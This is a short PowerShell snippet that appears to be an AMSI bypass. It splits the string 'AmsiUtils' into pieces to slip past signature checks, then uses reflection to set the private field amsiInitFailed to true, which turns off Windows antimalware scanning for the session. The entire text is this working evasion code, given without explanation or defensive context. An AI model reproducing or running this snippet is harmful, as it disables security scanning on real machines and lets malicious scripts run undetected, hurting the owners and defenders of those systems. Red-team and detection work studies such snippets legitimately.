$a = 'Am' + 'siUt' + 'ils'
[Ref].Assembly.GetType("System.Management.Automation.$a").GetField('amsi' + 'InitFailed', 'NonPublic,Static').SetValue($null, $true)
